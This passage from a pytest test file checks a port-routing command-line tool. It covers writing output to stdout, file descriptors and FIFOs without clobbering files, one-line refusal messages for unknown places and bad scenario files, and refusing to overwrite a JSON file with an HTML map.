    # citation showed, or which name a country had, hung on the order of the rows.
    root, state = site
    (root / table).write_text(text, encoding="utf-8")
    before = state()
    refused(run("route", "CNCCC", "CNCCD", "--data", str(root)), 1, says)
    result = run("validate", "--data", str(root))
    assert result.code == 1 and says in result.out
    assert state() == before


def test_out_to_a_stream_writes_it_in_order_and_replaces_nothing(site, tmp_path):
    # --out /dev/stdout renamed a new file over whatever stdout was redirected to: `>> log`
    # lost the log's earlier lines, and a pipe behind it failed with a /proc path.
    root, _ = site
    log = tmp_path / "log.txt"
    log.write_text("earlier line\n")
    ports = f"{sys.executable} -m corridor ports list --data {root}"
    done = subprocess.run(["bash", "-c", f"{ports} --out /dev/stdout >> {log}"], capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr
    lines = log.read_text().splitlines()
    assert lines[0] == "earlier line" and any("CNAAA" in line for line in lines[1:])
    done = subprocess.run(["bash", "-c", f"{ports} --out /dev/stdout | cat"], capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert done.returncode == 0 and "CNAAA" in done.stdout, done.stderr
    done = subprocess.run(["bash", "-c", f"{ports} --format json --out /dev/fd/3 3>{tmp_path / 'three.json'}"],
                          capture_output=True, text=True, timeout=120)  # fmt: skip
    assert done.returncode == 0 and done.stdout == "", done.stderr
    assert any(row["id"] == "CNAAA" for row in json.loads((tmp_path / "three.json").read_text()))
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got: list[str] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
    reader.start()
    assert corridor("ports", "list", "--format", "csv", "--data", str(root), "--out", str(fifo)).returncode == 0
    reader.join(timeout=60)
    assert got and "CNAAA" in got[0]
    assert fifo.is_fifo()  # still the pipe, not a file put in its place


def test_a_file_format_or_a_map_to_a_stream_is_refused(site, run):
    root, state = site
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--format", "gpkg", "--out", "/dev/stdout", "--data", str(root)), 2,
            "--format gpkg writes a file, not a stream")  # fmt: skip
    refused(run("route", "CNAAA", "CNBBB", "--map", "/dev/stdout", "--data", str(root)), 1, "is a stream, not a file")
    assert state() == before


def test_a_line_break_in_a_name_or_path_stays_on_the_one_line_of_the_message(site, run, tmp_path):
    root, state = site
    before = state()
    refused(run("route", "Atlan\ntis", "CNBBB", "--data", str(root)), 1, "unknown place 'Atlan\\ntis'")
    refused(run("route", "CNAAA", "CNBBB", "--params", str(tmp_path / "p\nq.csv"), "--data", str(root)), 1,
            "p\\nq.csv does not exist")  # fmt: skip
    assert state() == before


@pytest.mark.parametrize(
    ("argv", "code", "says"),
    [
        (["route", "CNAAA", "Atlantis"], 1, "unknown place 'Atlantis'"),
        (["route", "CNAAA", "Alpha Port"], 2, "origin and destination are the same place"),
        (["reach", "Atlantis"], 1, "unknown place 'Atlantis'"),
        (["matrix", "CNAAA", "--to", "Atlantis"], 1, "unknown place 'Atlantis'"),
        (["pareto", "CNAAA", "CNAAA"], 2, "origin and destination are the same place"),
        (["criticality", "CNAAA", "--to", "CNAAA"], 2, "is the origin itself"),
        (["scenario", "compare", "CNAAA", "IDIII"], 1, "no route from Alpha Port to Island Port"),
    ],
    ids=["route-unknown", "route-same", "reach", "matrix", "pareto", "criticality", "scenario-compare"],
)
def test_a_refusal_under_a_scenario_is_the_one_line_without_the_scenario_s_note(site, run, tmp_path, argv, code, says):
    # The note "scenario slow: Slow (1 change(s) in force)" came first, the refusal second: two lines.
    root, state = site
    scenario = _file(tmp_path / "slow.toml", SCENARIO)
    before = state()
    refused(run(*argv, "--scenario", scenario, "--data", str(root)), code, says)
    assert state() == before
    done = run("route", "CNAAA", "CNBBB", "--scenario", scenario, "--data", str(root))
    assert done.code == 0 and "scenario slow: Slow (1 change(s) in force)" in done.err


def test_a_scenario_key_that_is_missing_is_reported_at_line_1_not_0(site, run, tmp_path):
    root, state = site
    untitled = _file(tmp_path / "untitled.toml", SCENARIO.replace('title = "Slow"\n', ""))
    before = state()
    refused(run("route", "CNAAA", "CNBBB", "--scenario", untitled, "--data", str(root)), 1,
            f"{untitled}:1: title must be a short text")  # fmt: skip
    shown = run("scenario", "show", untitled, "--data", str(root))
    assert shown.code == 1 and f"{untitled}:1: title must be" in shown.err
    assert f"{untitled}:0:" not in shown.err
    assert state() == before


@pytest.mark.parametrize(
    "argv",
    [["route", "CNAAA", "CNBBB", "--map", "{kept}"], ["reach", "CNAAA", "--map", "{kept}"], ["map", "--out", "{kept}"]],
    ids=["route", "reach", "network"],
)
def test_a_map_is_not_written_over_a_file_named_for_data(site, run, tmp_path, argv):
    # `--map routes.json` (meant: --out) replaced the user's JSON with an HTML page.
    root, state = site
    kept = tmp_path / "routes.json"
    kept.write_text('{"mine": true}\n')
    before = state()
    flag = "--out" if argv[0] == "map" else "--map"
    refused(run(*[a.replace("{kept}", str(kept)) for a in argv], "--data", str(root)), 2,
            f"{flag} {kept} is a .json file but a map is an HTML page: give a .html file name")  # fmt: skip
    assert state() == before
